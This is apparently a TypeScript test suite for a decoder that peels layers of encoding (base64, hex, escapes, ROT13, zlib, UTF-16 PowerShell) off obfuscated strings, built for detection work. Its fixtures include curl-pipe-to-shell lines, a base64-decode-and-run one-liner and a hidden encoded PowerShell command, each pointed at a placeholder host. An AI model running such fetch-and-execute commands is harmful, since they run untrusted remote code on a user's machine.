import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { bytesToText, encodeUtf8, entropyOf, peel } from "../../../main/decode/index.ts";

const CODE = 'import os\nimport platform\nprint("hello from the specimen", platform.node())\n';
const COMMAND = "curl -s https://example.invalid/install.sh | sh";
const ADDRESS = "https://example.invalid/drop/stage2.txt";

function base64(content: string | Uint8Array): string {
	return Buffer.from(content).toString("base64");
}
function urlSafe(content: string | Uint8Array): string {
	return base64(content).replaceAll("+", "-").replaceAll("/", "_");
}
function hex(content: string | Uint8Array): string {
	return Buffer.from(content).toString("hex");
}
function reversed(text: string): string {
	return Array.from(text).reverse().join("");
}
function rot13(text: string): string {
	return text.replace(/[a-z]/gi, (letter) => {
		const first = letter <= "Z" ? 65 : 97;
		return String.fromCharCode(((letter.charCodeAt(0) - first + 13) % 26) + first);
	});
}
function wrapped(text: string, width: number, indent = ""): string {
	return text.replace(new RegExp(`.{${width}}`, "g"), (line) => `${line}\n${indent}`);
}
function base32(content: string): string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
	const bits = Array.from(Buffer.from(content), (byte) => byte.toString(2).padStart(8, "0")).join("");
	const symbols = (bits.match(/.{1,5}/g) ?? [])
		.map((five) => alphabet.charAt(Number.parseInt(five.padEnd(5, "0"), 2)))
		.join("");
	return symbols.padEnd(Math.ceil(symbols.length / 8) * 8, "=");
}
/** Deterministic noise: xorshift. */
function noise(length: number, seed = 88_675_123): Uint8Array {
	let state = seed;
	return Uint8Array.from({ length }, () => {
		state ^= state << 13;
		state ^= state >>> 17;
		state ^= state << 5;
		return state & 0xff;
	});
}
const PORTABLE_EXECUTABLE = (() => {
	const bytes = Buffer.alloc(200);
	bytes.write("MZ", 0, "latin1");
	bytes.writeUInt32LE(0x80, 0x3c);
	bytes.write("PE\0\0", 0x80, "latin1");
	return bytes;
})();
const PNG = Buffer.from("89504e470d0a1a0a0000000d4948445200000001000000010806000000", "hex");
let nested = CODE;
for (let round = 0; round < 12; round++) nested = base64(nested);

const MUST: readonly (readonly [
	name: string,
	literal: string,
	chain: string,
	kind: string,
	content: string | Uint8Array,
])[] = [
	["Python in base64", base64(CODE), "base64", "python", CODE],
	["a short statement", base64("import os, sys"), "base64", "python", "import os, sys"],
	["without padding", base64(CODE).replace(/=+$/, ""), "base64", "python", CODE],
	["wrapped lines", wrapped(base64(CODE), 60), "base64", "python", CODE],
	["wrapped and indented lines", wrapped(base64(CODE), 40, "        "), "base64", "python", CODE],
	[
		"URL-safe alphabet",
		urlSafe('print("???>>>~~~")\nimport os\n'),
		"base64",
		"python",
		'print("???>>>~~~")\nimport os\n',
	],
	["a shell command", base64(COMMAND), "base64", "shell", COMMAND],
	["an address", base64(ADDRESS), "base64", "url", ADDRESS],
	[
		"running text",
		base64("The quick brown fox jumps over the lazy dog."),
		"base64",
		"text",
		"The quick brown fox jumps over the lazy dog.",
	],
	[
		"text that is not English",
		base64("Привет, это скрытое сообщение для проверки"),
		"base64",
		"text",
		"Привет, это скрытое сообщение для проверки",
	],
	["JSON", base64('{"token":"abc","id":17}'), "base64", "json", '{"token":"abc","id":17}'],
	["a Windows program", base64(PORTABLE_EXECUTABLE), "base64", "executable", PORTABLE_EXECUTABLE],
	["an image", base64(PNG), "base64", "image", PNG],
	["an image in a data URI", `data:image/png;base64,${base64(PNG)}`, "base64", "image", PNG],
	["hex", hex(CODE), "hex", "python", CODE],
	["hex in upper case", hex(CODE).toUpperCase(), "hex", "python", CODE],
	["hex in groups", hex(CODE).replace(/../g, "$& ").trim(), "hex", "python", CODE],
	["hex of an address", hex(ADDRESS), "hex", "url", ADDRESS],
	["escapes written out", hex(CODE).replace(/../g, "\\x$&"), "escape", "python", CODE],
	["unicode escapes", hex(COMMAND).replace(/../g, "\\u00$&"), "escape", "shell", COMMAND],
	[
		"octal escapes",
		Array.from(COMMAND, (c) => `\\${c.charCodeAt(0).toString(8).padStart(3, "0")}`).join(""),
		"escape",
		"shell",
		COMMAND,
	],
	["base32", base32(CODE), "base32", "python", CODE],
	["a list of numbers", Array.from(CODE, (c) => c.charCodeAt(0)).join(", "), "numbers", "python", CODE],
	[
		"numbers in brackets, hexadecimal",
		`[${Array.from(CODE, (c) => `0x${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join(",")}]`,
		"numbers",
		"python",
		CODE,
	],
	["percent signs where none are needed", hex(ADDRESS).replace(/../g, "%$&"), "url", "url", ADDRESS],
	["code for a query", encodeURIComponent(CODE), "url", "python", CODE],
	["ROT13 of code", rot13(CODE), "rot13", "python", CODE],
	["ROT13 of an address", rot13(ADDRESS), "rot13", "url", ADDRESS],
	["code back to front", reversed(CODE), "reverse", "python", CODE],
	["an address back to front", reversed(ADDRESS), "reverse", "url", ADDRESS],
	["base64 back to front", reversed(base64(CODE)), "reverse base64", "python", CODE],
	[
		"base64 back to front, no padding",
		reversed(base64(`${CODE}#`).replace(/=+$/, "")),
		"reverse base64",
		"python",
		`${CODE}#`,
	],
	["base64 of code back to front", base64(reversed(CODE)), "base64 reverse", "python", CODE],
	["ROT13 of base64", rot13(base64(CODE)), "rot13 base64", "python", CODE],
	["zlib in base64", base64(deflateSync(CODE)), "base64 zlib", "python", CODE],
	["gzip in base64", base64(gzipSync(CODE)), "base64 gzip", "python", CODE],
	["raw deflate in base64", base64(deflateRawSync(CODE)), "base64 raw-deflate", "python", CODE],
	["zlib in hex", hex(deflateSync(CODE)), "hex zlib", "python", CODE],
	["zlib of noise: the checksum proves it", base64(deflateSync(noise(300))), "base64 zlib", "binary", noise(300)],
	["a short word under a checksum", base64(deflateSync(base64("Login"))), "base64 zlib base64", "text", "Login"],
	["a bytes literal that is a stream", bytesToText(deflateSync(CODE)), "zlib", "python", CODE],
	["base64 of zlib of base64", base64(deflateSync(base64(CODE))), "base64 zlib base64", "python", CODE],
	[
		"zlib back to front in base64",
		base64(Buffer.from(deflateSync(CODE)).reverse()),
		"base64 reverse zlib",
		"python",
		CODE,
	],
	["hex of base64", hex(base64(CODE)), "hex base64", "python", CODE],
	["twelve times base64", nested, Array(12).fill("base64").join(" "), "python", CODE],
	[
		"UTF-16 for PowerShell",
		base64(Buffer.from("Invoke-WebRequest -Uri http://example.invalid/a", "utf16le")),
		"base64 utf-16le",
		"powershell",
		"Invoke-WebRequest -Uri http://example.invalid/a",
	],
	[
		"an encoded command",
		`powershell -NoP -w hidden -enc ${base64(Buffer.from("Start-Process calc.exe -WindowStyle Hidden", "utf16le"))}`,
		"base64 utf-16le",
		"powershell",
		"Start-Process calc.exe -WindowStyle Hidden",
	],
	["a blob piped to a decoder", `echo ${base64(COMMAND)} | base64 -d | sh`, "base64", "shell", COMMAND],
	["Ascii85 in its frame", '<~87cURD]i,"Ebo80~>', "ascii85", "text", "Hello World!"],
];

describe("peel", () => {
	it.each(MUST)("undoes %s", (_name, literal, chain, kind, content) => {
		const peeled = peel(literal, { minimumLength: 12 });
		expect(peeled?.chain.map((step) => step.transform).join(" ")).toBe(chain);
		expect(peeled?.kind).toBe(kind);
		expect(Buffer.from(peeled?.bytes ?? []).toString("latin1")).toBe(Buffer.from(content).toString("latin1"));
	});

	it("stops at the depth it is given, and at sixteen", () => {
		expect(peel(nested, { maximumDepth: 12 })?.kind).toBe("python");
		expect(peel(nested, { maximumDepth: 3 })?.chain).toHaveLength(3);
		let deep = CODE;
		for (let round = 0; round < 20; round++) deep = base64(deep);
		expect(peel(deep)?.chain).toHaveLength(16);
	});

	it("keeps to its budget: a bomb gives nothing", () => {
		const bomb = base64(deflateSync(Buffer.alloc(5_000_000, "import os\n")));
		expect(peel(bomb, { budget: { maximumOutput: 6_000_000 } })?.kind).toBe("python");
		expect(peel(bomb, { budget: { maximumOutput: 1_000_000 } })).toBeUndefined();
	});

	it("maps what it decoded back to the literal, and forth", () => {
		const literal = wrapped(base64(CODE), 20);
		const peeled = peel(literal);
		const start = CODE.indexOf("platform");
		const back = peeled?.mapBack({ start, end: start + "platform".length });
		expect(back).toBeDefined();
		if (!peeled || !back) return;
		// The slice decodes to the word when it is widened to whole groups of four.
		const before = literal.slice(0, back.start).replaceAll("\n", "").length;
		const slice = literal.slice(back.start, back.end).replaceAll("\n", "");
		const group = before - (before % 4);
		const text = base64(CODE).slice(group, Math.ceil((before + slice.length) / 4) * 4);
		expect(Buffer.from(text, "base64").toString()).toContain("platform");
		expect(text.length).toBeLessThan(24);
		const forth = peeled.mapForward(back);
		expect(forth.start).toBeLessThanOrEqual(start);
		expect(forth.end).toBeGreaterThanOrEqual(start + "platform".length);
		expect(forth.end - forth.start).toBeLessThan("platform".length + 3);
	});

	it("maps into the middle of a command line", () => {
		const blob = base64(COMMAND);
		const literal = `echo ${blob} | base64 -d | sh`;
		const back = peel(literal)?.mapBack({ start: 0, end: COMMAND.length });
		expect(literal.slice(back?.start, back?.end)).toBe(blob.replace(/=+$/, ""));
	});

	it("maps compressed content to all of its stream", () => {
		const literal = base64(deflateSync(CODE));
		const back = peel(literal)?.mapBack({ start: 3, end: 4 });
		expect(back).toEqual({ start: 0, end: literal.replace(/=+$/, "").length });
	});

	it("takes ten million characters in its stride, encoded or not", () => {
		const long = CODE.repeat(100_000);
		const peeled = peel(base64(long));
		expect(peeled?.bytes.length).toBe(long.length);
		expect(peel(base64(noise(7_500_000)))).toBeUndefined();
		expect(peel("A".repeat(10_000_000))).toBeUndefined();
		expect(peel("%41".repeat(3_000_000) + "%zz")?.chain).toBeUndefined();
	});
});

const MUST_NOT: readonly (readonly [name: string, literal: string])[] = [
	["a word", "password"],
	["a long word", "internationalization"],
	["words in camel case", "getDefaultConfigurationValueForEnvironment"],
	["words in Pascal case", "AbstractSingletonProxyFactoryBeanGeneratorService"],
	["words in snake case", "test_that_the_default_configuration_is_loaded_once"],
	["a constant's name", "DEFAULTCONFIGURATIONENVIRONMENT"],
	["upper-case words", "AAAAAAAABBBBBBBBCCCCCCCCDDDDDDDD"],
	["a package name", "python-dateutil-stubs-extra-types"],
	["a dotted path", "package.subpackage.module.ClassName"],
	["a file path", "/usr/local/lib/python3/dist/packages/Example/Module"],
	["a Windows path", "C:\\Program Files\\Common Files\\System\\Ado"],
	["a SHA-256 digest", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"],
	["another digest", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"],
	["an MD5 digest in upper case", "D41D8CD98F00B204E9800998ECF8427E"],
	["a commit", "da39a3ee5e6b4b0d3255bfef95601890afd80709"],
	["a UUID", "123e4567-e89b-12d3-a456-426614174000"],
	["a UUID without dashes", "123e4567e89b12d3a456426614174000"],
	["a subresource digest", "sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC"],
	["such a digest alone", "oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC"],
	["a wheel's record digest", "sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU"],
	["CSS colours", "#ffffff,#c0ffee,#deadbe,#bada55,#facade"],
	["digits", "3141592653589793238462643383279502884197169399375105820974944592"],
	["a time stamp", "20240131T235959.123456+00:00"],
	["a version list", "2,7,3,4,3,5,3,6,3,7,3,8,3,9,3,10,3,11"],
	["a table of small numbers", "1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14"],
	["a table of numbers", "120, 240, 36, 48, 60, 72, 84, 96, 108, 12, 132, 144"],
	["the alphabet", "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"],
	["the hex digits", "0123456789abcdef0123456789abcdef"],
	["a run", "================================================"],
	["dashes", "------------------------------------------------"],
	["zeros", "0000000000000000000000000000000000000000"],
	["running text", "The quick brown fox jumps over the lazy dog, and nobody wonders."],
	["code", "import os\nos.system('id')\n"],
	["an address", "https://files.example.org/packages/ab/cd/example-1.0-py3-none-any.whl"],
	["an address with a query", "https://example.org/search?q=a%20b%2Fc&lang=en%2DGB&x=%7B%22a%22%3A1%7D"],
	["minified JSON", '{"name":"example","version":"1.0.0","private":true,"list":[1,2,3]}'],
	["an address with escapes that it needs", "https://example.org/v2/ziRkl6CgTw%2FSmWGFMgO%2Bjt7n14Q1FonYq0%2Ft4QPHWgE"],
	["a socket's address", "http+unix://%2Fvar%2Frun%2Fsocket/path%7E"],
	["a format", "%(asctime)s %(levelname)-8s %(name)s %(message)s"],
	["a regular expression", "^[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\\.[A-Za-z]{2,}$"],
	["escapes in a regular expression", "[\\x00-\\x1f\\x7f-\\x9f\\u2028\\u2029]|(?:foo|bar)"],
	[
		"a PEM block",
		"-----BEGIN CERTIFICATE-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\n-----END CERTIFICATE-----",
	],
	["a docstring with importance", "Return the value; stropmi is no word, and neither is tropmit."],
	["a key-like token", "AKIAIOSFODNN7EXAMPLEKEYID0123456789"],
	["a bot token's shape", "110201543:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw"],
	["bytes literals that are noise", bytesToText(noise(200))],
	["noise in base64", base64(noise(300))],
	["noise in hex", hex(noise(300))],
	["text outside latin-1", "日本語のテキストがここにあります。暗号ではありません。"],
];

describe("peel leaves alone", () => {
	it.each(MUST_NOT)("%s", (_name, literal) => {
		expect(peel(literal, { minimumLength: 8 })).toBeUndefined();
	});

	it("noise of every length, in every alphabet", () => {
		const answers: string[] = [];
		for (let length = 9; length < 120; length++) {
			for (let seed = 1; seed <= 12; seed++) {
				const bytes = noise(length, seed * 7_919 + length);
				for (const literal of [
					base64(bytes),
					urlSafe(bytes),
					hex(bytes),
					base64(bytes).toUpperCase(),
					bytesToText(bytes),
				]) {
					if (peel(literal)) answers.push(literal);
				}
			}
		}
		expect(answers).toEqual([]);
	});
});

describe("entropyOf", () => {
	it("is 0 for one repeated byte, 8 for all bytes alike, between for text", () => {
		expect(entropyOf(new Uint8Array(100))).toBe(0);
		expect(entropyOf(new Uint8Array())).toBe(0);
		expect(entropyOf(Uint8Array.from({ length: 256 }, (_, code) => code))).toBeCloseTo(8);
		expect(entropyOf(encodeUtf8("the quick brown fox jumps over the lazy dog"))).toBeGreaterThan(4);
	});
});
